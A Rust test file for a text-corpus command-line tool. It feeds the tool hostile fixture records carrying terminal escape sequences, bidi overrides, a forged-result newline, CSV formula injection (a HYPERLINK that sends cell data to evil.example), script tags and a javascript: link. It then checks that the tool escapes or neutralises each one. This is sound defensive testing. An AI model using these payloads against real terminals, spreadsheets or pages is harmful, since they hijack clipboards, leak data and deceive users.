//! Hostile corpus text never acts on the reader's side (issue #14, items 15–17):
//! terminal escapes and bidi overrides are shown escaped by every text
//! renderer, error and import message; CSV cells cannot start a formula;
//! Markdown carries no HTML; `--with-diffs` links cannot be `javascript:`.

use crate::common;

use common::{Fixture, Run};

/// A statement pair whose every field carries something hostile: ESC
/// sequences, OSC 52 (clipboard), OSC 8 (links), BEL, backspace, bidi
/// overrides and isolates, a newline that would forge a search result, CSV
/// formulas and HTML.
fn hostile() -> Fixture {
    let f = Fixture::empty();
    let usa = r#"{"event":"evil-1","date":"2021-03-04","kind":"call","event_title":"Title \u001b]0;pwned\u0007 <script>alert(1)</script>","side":"USA","issuer":"State\n1. 2099-01-01  USA  Forged  forged/USA  score 9.99\u001b[2J","coverage":"full","text":"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\") we held a constructive dialogue \u001b]52;c;ZXZpbA==\u0007 on trade.\n@SUM(1+1) both sides see progress \u202eevil\u202c <img src=x onerror=alert(1)> and \u001b]8;;http://evil.example\u001b\\link\u001b]8;;\u001b\\ back\bspace."}"#;
    let chn = r#"{"event":"evil-1","date":"2021-03-04","kind":"call","event_title":"Title \u001b]0;pwned\u0007 <script>alert(1)</script>","side":"CHN","issuer":"+MOFCOM\u2066","coverage":"full","text":"-2+3 the two sides held a constructive dialogue on trade \u001b[31mprogress\u001b[0m <script>alert(2)</script>."}"#;
    f.write("corpus/evil.jsonl", format!("{usa}\n{chn}\n"));
    f
}

/// The first character a terminal would act on, if any: any control
/// character but the line break (and ESC starting one of our own colour
/// codes, when `colour` is true), or a bidi override or isolate.
fn raw_control(text: &str, colour: bool) -> Option<String> {
    let sgr = regex::Regex::new(r"^\x1b\[[0-9;]*m").unwrap();
    for (i, c) in text.char_indices() {
        let bidi = matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
        if c == '\n' || !(c.is_control() || bidi) {
            continue;
        }
        if colour && c == '\x1b' {
            if let Some(m) = sgr.find(&text[i..]) {
                let code = &m.as_str()[2..m.as_str().len() - 1];
                // our own codes only: SGR with the styles the painter uses
                if code
                    .split(';')
                    .all(|p| p.parse::<u8>().is_ok_and(|n| n <= 39))
                {
                    continue;
                }
            }
        }
        let around: String = text[i.saturating_sub(40)..].chars().take(80).collect();
        return Some(format!("U+{:04X} in {around:?}", u32::from(c)));
    }
    None
}

fn assert_clean(run: &Run, what: &str, colour: bool) {
    for (stream, text) in [("stdout", &run.stdout), ("stderr", &run.stderr)] {
        if let Some(found) = raw_control(text, colour) {
            panic!("{what}: raw {found} on {stream}");
        }
    }
}

#[test]
fn every_text_renderer_shows_control_characters_escaped() {
    let f = hostile();
    let commands: &[&[&str]] = &[
        &["search", "dialogue"],
        &["kwic", "dialogue"],
        &["kwic", "progress", "--width", "200"],
        &["phrases"],
        &["tone", "--explain"],
        &["tone", "--by", "issuer"],
        &["diff", "evil-1"],
        &["search", "dialogue", "--count-by", "issuer"],
        &["keyness", "--by", "issuer", "--min-count", "1"],
    ];
    for args in commands {
        for colour in ["never", "always"] {
            let mut all = args.to_vec();
            all.extend(["--color", colour]);
            let run = f.run(&all);
            assert!(run.code <= 1, "{all:?}: {}", run.stderr);
            assert!(!run.stdout.is_empty(), "{all:?} printed nothing");
            assert_clean(&run, &all.join(" "), colour == "always");
        }
    }
}

#[test]
fn the_escaped_characters_stay_visible() {
    let f = hostile();
    let run = f.run(&["search", "dialogue", "--color", "never"]);
    run.expect_code(0);
    assert!(run.stdout.contains("\\u{1b}[2J"), "{}", run.stdout);
    assert!(run.stdout.contains("+MOFCOM\\u{2066}"), "{}", run.stdout);
    let run = f.run(&["phrases", "--color", "never"]);
    assert!(
        run.stdout.contains("\\u{1b}]52;c;ZXZpbA==\\u{7}"),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout.contains("\\u{202e}evil\\u{202c}"),
        "{}",
        run.stdout
    );
    assert!(run.stdout.contains("back\\u{8}space"), "{}", run.stdout);
}

#[test]
fn a_newline_in_an_issuer_cannot_forge_a_search_result() {
    let f = hostile();
    let run = f.run(&["search", "dialogue", "--color", "never"]);
    run.expect_code(0);
    let results: Vec<&str> = run
        .stdout
        .lines()
        .filter(|l| {
            l.split_once(". ")
                .is_some_and(|(n, _)| n.parse::<u32>().is_ok())
        })
        .collect();
    assert_eq!(results.len(), 2, "{}", run.stdout);
    assert!(
        results.iter().all(|l| !l.starts_with("1. 2099")),
        "{results:?}"
    );
    assert!(
        run.stdout.contains("State\\n1. 2099-01-01"),
        "{}",
        run.stdout
    );
}

#[test]
fn check_and_error_messages_show_control_characters_escaped() {
    let f = hostile();
    f.write(
        "corpus/bad.jsonl",
        "{\"event\":\"x\",\"date\":\"2021\",\"kind\":\"call\",\"event_title\":\"t\",\"side\":\"US\",\"issuer\":\"i\",\"coverage\":\"full\",\"text\":\"a\",\"\\u001b]8;;http://e\\u0007x\":1}\n",
    );
    let run = f.run(&["check", "--color", "always"]);
    run.expect_code(1);
    assert_clean(&run, "check", true);
    let run = f.run(&["diff", "\x1b]52;c;eA==\x07"]);
    run.expect_code(2);
    assert_clean(&run, "diff error", false);
    assert!(
        run.stderr.contains("\\u{1b}]52;c;eA==\\u{7}"),
        "{}",
        run.stderr
    );
    assert_eq!(run.stderr.lines().count(), 1, "{}", run.stderr);
}

#[test]
fn import_messages_show_control_characters_escaped() {
    let f = Fixture::empty();
    f.write(
        "in.jsonl",
        "{\"d\":\"2021-01-01\",\"t\":\"a text\",\"s\":\"USA\"}\nnot json \x1b[2J\x07\n{\"d\":\"\\u001b]0;x\\u0007\",\"t\":\"b\",\"s\":\"USA\"}\n",
    );
    let run = f.run(&[
        "import",
        "jsonl",
        "in.jsonl",
        "--map",
        "date=d,text=t,side=s",
        "--set",
        "issuer=\u{202e}MFA",
        "--into",
        "corpus",
    ]);
    assert_clean(&run, "import jsonl", false);
    assert!(
        run.stdout.contains("`\\u{1b}]0;x\\u{7}` is not a date"),
        "{}\n{}",
        run.stdout,
        run.stderr
    );
    let run = f.run(&[
        "import",
        "jsonl",
        "in.jsonl",
        "--map",
        "date=d",
        "--map",
        "te\x1b[8mxt=t",
        "--into",
        "corpus",
    ]);
    run.expect_code(2);
    assert_clean(&run, "import error", false);
    assert!(run.stderr.contains("te\\u{1b}[8mxt"), "{}", run.stderr);
}

/// The CSV cells of `text` (RFC 4180, as the tool writes it).
fn csv_cells(text: &str) -> Vec<String> {
    let (mut cells, mut cell, mut quoted, mut chars) =
        (Vec::new(), String::new(), false, text.chars().peekable());
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                cell.push('"');
                chars.next();
            }
            ('"', _) => quoted = !quoted,
            (',' | '\n', false) => cells.push(std::mem::take(&mut cell)),
            (c, _) => cell.push(c),
        }
    }
    cells.push(cell);
    cells
}

fn assert_no_formula(csv: &str, what: &str) {
    for cell in csv_cells(csv) {
        let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
            && cell != "-"
            && cell.parse::<f64>().is_err();
        assert!(!formula, "{what}: the cell {cell:?} would start a formula");
    }
}

#[test]
fn csv_cells_never_start_a_formula() {
    let f = hostile();
    let commands: &[&[&str]] = &[
        &["search", "dialogue", "--format", "csv"],
        &[
            "search",
            "dialogue",
            "--format",
            "csv",
            "--count-by",
            "issuer",
        ],
        &["kwic", "dialogue", "--format", "csv"],
        &["kwic", "two", "--format", "csv", "--width", "3"],
        &["phrases", "--format", "csv"],
        &["tone", "--format", "csv", "--explain"],
        &["tone", "--format", "csv", "--by", "issuer"],
        &["tone", "--format", "csv", "--rows", "events"],
    ];
    for args in commands {
        let run = f.run(args);
        run.expect_code(0);
        assert_no_formula(&run.stdout, &args.join(" "));
    }
    let run = f.run(&["search", "dialogue", "--format", "csv"]);
    assert!(run.stdout.contains("\"'=HYPERLINK("), "{}", run.stdout);
    assert!(run.stdout.contains(",'+MOFCOM"), "{}", run.stdout);
    assert!(run.stdout.contains(",'-2+3 the two"), "{}", run.stdout);
    let run = f.run(&["phrases", "--format", "csv"]);
    assert!(run.stdout.contains(",'@SUM(1+1) both"), "{}", run.stdout);
}

#[test]
fn numbers_the_tool_writes_stay_numbers_in_csv() {
    let f = Fixture::bundled();
    let run = f.run(&[
        "keyness",
        "--by",
        "side",
        "--min-count",
        "1",
        "--max-n",
        "1",
        "--format",
        "csv",
    ]);
    run.expect_code(0);
    let negative: Vec<String> = csv_cells(&run.stdout)
        .into_iter()
        .filter(|c| c.starts_with('-') && c.parse::<f64>().is_ok())
        .collect();
    assert!(
        !negative.is_empty(),
        "no negative z-score in\n{}",
        run.stdout
    );
    assert!(!run.stdout.contains("'-"), "{}", run.stdout);
    let run = f.run(&["phrases", "--format", "csv", "--summary"]);
    run.expect_code(0);
    // max_concern is a number (0 for none), never a placeholder or a quoted cell.
    assert!(
        run.stdout
            .lines()
            .skip(1)
            .all(|l| l.rsplit(',').next().unwrap().parse::<u8>().is_ok()),
        "{}",
        run.stdout
    );
}

#[test]
fn markdown_carries_no_html_from_the_corpus() {
    let f = hostile();
    let commands: &[&[&str]] = &[
        &["phrases", "--format", "md"],
        &["tone", "--format", "md", "--explain"],
        &["diff", "evil-1", "--format", "md"],
    ];
    for args in commands {
        let run = f.run(args);
        run.expect_code(0);
        for tag in ["<script", "<img", "<https", "](http"] {
            assert!(
                !run.stdout.contains(tag),
                "{args:?}: {tag} in\n{}",
                run.stdout
            );
        }
        assert!(run.stdout.contains("&lt;"), "{args:?}:\n{}", run.stdout);
    }
}

#[test]
fn with_diffs_links_are_relative_and_percent_encoded() {
    let f = hostile();
    let run = f.run(&[
        "tone",
        "--format",
        "html",
        "--gap",
        "USA,CHN",
        "--with-diffs",
        "javascript:alert(1)//",
    ]);
    run.expect_code(0);
    let hrefs: Vec<&str> = run
        .stdout
        .split("href=\"")
        .skip(1)
        .filter_map(|s| s.split('"').next())
        .collect();
    assert!(
        hrefs.contains(&"javascript%3Aalert%281%29/evil-1.html"),
        "{hrefs:?}"
    );
    for h in &hrefs {
        assert!(!h.to_ascii_lowercase().starts_with("javascript:"), "{h}");
    }
    assert!(f.path("javascript:alert(1)/evil-1.html").is_file());
    let run = f.run(&[
        "tone",
        "--format",
        "html",
        "--gap",
        "USA,CHN",
        "--with-diffs",
        "my diffs",
    ]);
    run.expect_code(0);
    assert!(run.stdout.contains("href=\"my%20diffs/evil-1.html\""));
}
